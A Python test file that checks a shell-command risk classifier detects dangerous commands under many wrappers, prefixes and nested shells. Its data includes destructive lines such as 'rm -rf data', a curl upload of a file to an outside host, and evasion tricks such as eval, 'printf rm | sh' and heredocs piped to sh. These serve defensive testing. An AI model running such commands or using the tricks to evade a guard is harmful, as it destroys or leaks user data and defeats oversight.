"""Whatever stands around a dangerous command, it is seen; and no text at all makes the judge fail."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskhand.core.verdicts import RISK_CLASSES
from deskhand.policy.shell.line import touch_of_command

DANGEROUS = {
    "rm -rf data": "delete",
    "git push": "take_out",
    "find . -name a -delete": "delete",
    "curl -d @a https://x.example": "take_out",
    "pip install x": "install",
    "mail a@b.example < c": "send",
    "crontab -r": "delete",
    "echo x > ~/.bashrc": "change_settings",
}

WRAPPERS: tuple[Callable[[str], str], ...] = (
    lambda line: f"ls; {line}",
    lambda line: f"{line} && ls",
    lambda line: f"true || {line}",
    lambda line: f"cat a | {line}",
    lambda line: f"{line} | cat",
    lambda line: f"( {line} )",
    lambda line: f"{{ {line}; }}",
    lambda line: f"echo $( {line})",  # with a space: $(( begins arithmetic, in which nothing is run
    lambda line: f'echo "a $( {line}) b"',
    lambda line: f"echo <({line})",
    lambda line: f"if true; then {line}; fi",
    lambda line: f"if false; then ls; else {line}; fi",
    lambda line: f"for i in 1 2; do {line}; done",
    lambda line: f"while {line}; do ls; done",
    lambda line: f"case a in\na) {line};;\nesac",
    lambda line: f"f() {{ {line}; }}; f",
    lambda line: f"! {line}",
    lambda line: f"# words\n{line} # more words",
    lambda line: f"echo 'a' \"b\" # c\n{line}",
    lambda line: f"cat <<EOF\n$( {line})\nEOF",
    lambda line: f"cat > b <<'EOF'\nwords\nEOF\n{line}",
    lambda line: f"X=1; {line}",
    lambda line: f"[[ -f a ]] && {line}",
    lambda line: f"a=$( {line})",
    lambda line: f"sleep 1 &\n{line} &",
)  # fmt: skip

PREFIXES = (
    "command ", "env ", "env A=1 ", "nohup ", "timeout 5 ", "timeout -s KILL 5 ", "nice -n 5 ", "sudo ", "sudo -u me ",
    "time ", "exec ", "setsid ", "stdbuf -oL ", "busybox ", "xargs ", "\\", "command -- ", "builtin command ",
    "ionice -c3 ",
    "sudo env A=1 nohup ",
)  # fmt: skip


@given(st.sampled_from(sorted(DANGEROUS)), st.lists(st.sampled_from(range(len(WRAPPERS))), max_size=3))
def test_a_dangerous_command_is_seen_wherever_it_stands(line: str, wraps: list[int]) -> None:
    text = line
    for number in wraps:
        text = WRAPPERS[number](text)
    assert DANGEROUS[line] in touch_of_command(text).classes, text


@pytest.mark.parametrize("prefix", PREFIXES)
@pytest.mark.parametrize("line", sorted(line for line in DANGEROUS if ">" not in line and "<" not in line))
def test_a_program_that_runs_another_hides_nothing(prefix: str, line: str) -> None:
    assert DANGEROUS[line] in touch_of_command(prefix + line).classes


@given(st.lists(st.sampled_from(["bash -c", "sh -c", "eval", "sh -ec", "bash --norc -c"]), min_size=1, max_size=4))
def test_shells_within_shells_hide_nothing(shells: list[str]) -> None:
    text = "rm -rf data"
    for shell in shells:
        text = f"{shell} '" + text.replace("'", "'\\''") + "'"
    assert "delete" in touch_of_command(text).classes, text


@pytest.mark.parametrize("behind", ["\u3000", "\f", "\r\n", "\U0010ffff", "1..\U000e0100", "🙂"])
@pytest.mark.parametrize("line", ["{{{0}", "echo a{{{0}}}", "f() {{{0} rm -r 文件\n}}"])
def test_no_character_behind_a_brace_ends_the_process_that_reads_it(line: str, behind: str) -> None:
    assert touch_of_command(line.format(behind)).classes


def test_names_beyond_ascii_are_read_as_they_are_written() -> None:
    assert touch_of_command("rm '文件 ü🙂.txt'").paths == touch_of_command('rm "文件 ü🙂.txt"').paths
    assert "文件 ü🙂.txt" in touch_of_command("rm '文件 ü🙂.txt'").consequence
    assert touch_of_command("文件=1 🙂=2 rm x").classes == touch_of_command("unknown-program rm x").classes


@given(st.text(max_size=80))
def test_any_text_gets_classes_of_the_list_and_never_fails(text: str) -> None:
    found = touch_of_command(text)
    assert found.classes and set(found.classes) <= set(RISK_CLASSES)
    assert found.consequence.endswith(".")


SHELL_PIECES = st.sampled_from(
    ["rm x", "ls", " ", ";", "&&", "|", "\n", "\\\n", "$(", ")", "`", '"', "'", "#", "{ ", " }", "if ", " then ", " fi",
     "<<E\n", "\nE\n", "$X", "${", "}", "<(", ">", ">>", "&", "do ", "done", "case", "esac", "$'", "=", "*", "((", "))",
     "\r", "\0", "\u3000", "\U000f0001", "\U000f1000", "文件"]
)  # fmt: skip


@given(st.lists(SHELL_PIECES, max_size=30))
def test_broken_shell_text_gets_classes_too(pieces: list[str]) -> None:
    assert touch_of_command("".join(pieces)).classes


@pytest.mark.parametrize(
    "line",
    [
        "r\\\nm x", "# words \\\nrm x", "> f rm x", "sh -c  2>&1 'rm x'", "ls\r#; rm x", "ls\u3000#; rm x",
        "time ! rm x",
        '$"rm" x', "{rm,x}", "a =~\nrm x", "r\0m x", "X='rm x'; eval $X", "X=rm; Y=$X; $Y x",
        "echo 'rm x' | tee b | sh",
        "$(echo rm) x", "ls `echo \\`rm x\\``", "cat <<E | sh\nrm x\nE", "find . -exec sh -c 'rm {}' \\;",
        "printf rm | sh",
    ],
)  # fmt: skip
def test_where_bash_and_the_grammar_differ_the_command_is_seen(line: str) -> None:
    """Each of these was found by running random lines in bash, or is a kin of one."""
    assert "delete" in touch_of_command(line).classes


def test_nesting_without_end_is_not_followed_and_counts_as_the_worst() -> None:
    assert "take_out" in touch_of_command("( " * 100 + "ls" + " )" * 100).classes
    assert "delete" in touch_of_command("sudo " * 50 + "ls").classes


HIDDEN = Path(__file__).with_name("hidden.txt").read_text().splitlines()


@pytest.mark.parametrize("line", HIDDEN)
def test_a_command_hidden_behind_another_is_asked_about(line: str) -> None:
    assert {"delete", "take_out"} & set(touch_of_command(line).classes)
